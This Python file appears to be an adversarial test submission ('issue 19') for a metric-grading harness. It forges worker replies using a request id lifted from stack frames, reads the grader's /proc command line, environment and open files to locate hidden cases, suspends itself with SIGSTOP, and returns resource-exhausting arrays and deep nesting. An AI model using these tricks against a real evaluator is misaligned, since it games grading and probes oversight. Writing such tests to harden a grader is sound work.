"""Attack (issue 19): games with the worker protocol and the grader's resources.

- confusion_matrix writes a forged reply straight to the reply descriptor, with the request id it
  finds in the worker's frames and an absurd duration (``seconds`` = 10**400), then a line of
  JSON on stdout that looks like a reply, and reads the grader's /proc entries (its command
  line, environment and open files), where the hidden cases' paths would show;
- precision_recall_f1 stops itself with SIGSTOP (once per submission: a marker in its folder);
- top_k_accuracy returns replies that are cheap to send and dear to convert: a bool array the
  grader turns into float64 (8 bytes per byte sent) and an array of a zero-size dtype with 2**40
  elements (no bytes at all);
- roc_auc_ovr returns 40 levels of nesting.
The attacks that stop the worker come in the order the tests call them, so that each runs before
the grader stops restarting the worker. Nothing here computes a metric, so it earns nothing.
"""

import json
import os
import signal
import sys

import numpy as np


def _request_id():
    frame = sys._getframe(1)
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request["id"]
        frame = frame.f_back
    return "unknown"


def confusion_matrix(y_true, y_pred, num_classes):
    forged = {"id": _request_id(), "ok": True, "value": [[1]], "seconds": 10**400}
    os.write(int(sys.argv[1]), (json.dumps(forged) + "\n").encode())
    print(json.dumps({"id": _request_id(), "ok": True, "value": 0}), flush=True)
    found = []
    for name in ("cmdline", "environ", "fd"):
        path = f"/proc/{os.getppid()}/{name}"
        try:
            found.append(f"{name}: {len(os.listdir(path)) if name == 'fd' else len(open(path, 'rb').read())}")
        except OSError as exc:
            found.append(f"{name}: {exc.strerror}")
    print("grader /proc:", ", ".join(found), flush=True)
    return np.zeros((num_classes, num_classes), dtype=np.int64)


def precision_recall_f1(y_true, y_pred, num_classes, average="macro"):
    if not os.path.exists("stopped"):
        open("stopped", "w").close()
        os.kill(os.getpid(), signal.SIGSTOP)
    return 0.0, 0.0, 0.0


def top_k_accuracy(y_true, scores, k):
    if k == 1:
        return np.ones(12 * 2**20, dtype=bool)  # 12 MB sent, 96 MB as float64
    return np.zeros(2**40, dtype="V0")  # 2**40 elements in no bytes at all


def roc_auc_ovr(y_true, scores):
    nested = 0.0
    for _ in range(40):
        nested = [nested]
    return nested
